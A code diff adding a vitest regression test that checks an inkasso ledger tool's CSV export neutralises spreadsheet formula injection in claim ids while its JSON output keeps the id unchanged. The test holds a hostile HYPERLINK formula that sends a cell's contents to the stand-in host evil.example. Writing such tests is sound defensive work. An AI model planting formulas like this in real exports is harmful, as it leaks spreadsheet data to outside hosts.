@@ -12,7 +12,7 @@ import { inflateSync } from 'node:zlib';
 import { afterAll, describe, expect, it } from 'vitest';
 import { createApi } from '../engine/api/app.ts';
 import { folderVersions } from '../engine/api/folder-versions.ts';
-import { buildLedger } from '../engine/ledger/ledger.ts';
+import { buildLedger, ledgerCsv } from '../engine/ledger/ledger.ts';
 import { buildLetter } from '../engine/letters/letter.ts';
 import { letterPdf } from '../engine/letters/pdf.ts';
 import { standardFontsCan, unprintable } from '../engine/text/pdf-printable.ts';
@@ -509,6 +509,26 @@ describe('inkasso ledger', () => {
     expect(sum(4)).toBe(sum(5));
     const json = JSON.parse(cli(['ledger', at('claim.json'), '--as-of', '2026-02-19', '--format', 'json']).stdout.toString('utf8'));
     expect(json.balances['1500']).toBe(json.outstanding);
+  });
+
+  it('writes a claim id a spreadsheet would run as a formula with a \' before it in the CSV, and as given in the JSON', () => {
+    // Before, the id went into the CSV as written: opened in a spreadsheet, the first cell was a
+    // live HYPERLINK (CSV injection).
+    const hostile = '=HYPERLINK("http://evil.example/?"&A2,"Se her")';
+    writeFileSync(at('formula.json'), JSON.stringify({ ...claim, id: hostile }));
+    const csv = cli(['ledger', at('formula.json'), '--as-of', '2026-02-19']);
+    expect(csv.code, csv.stderr).toBe(0);
+    const rows = csv.stdout.toString('utf8').trim().split('\n').slice(1);
+    expect(rows.length).toBeGreaterThan(2);
+    for (const row of rows) expect(row.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A2,""Se her"")",`), row).toBe(true);
+    // Inside a text the id does not start the cell, and no spreadsheet runs it.
+    expect(rows[0]).toContain(',"Faktura =HYPERLINK(');
+    const json = JSON.parse(cli(['ledger', at('formula.json'), '--as-of', '2026-02-19', '--format', 'json']).stdout.toString('utf8'));
+    expect(json.claimId).toBe(hostile);
+    for (const [id, cell] of [['+47 22 00 00 00', "'+47 22 00 00 00"], ['-12', "'-12"], ['@SUM(A1)', "'@SUM(A1)"], ['F-12', 'F-12']] as const) {
+      const first = ledgerCsv(buildLedger(rules, { ...claim, id } as never, '2026-02-19')).split('\n')[1]!;
+      expect(first.startsWith(`${cell},2025-`), first).toBe(true);
+    }
   });
 
   it('posts to the accounts of --accounts, and refuses a chart it cannot use (exit 2)', () => {
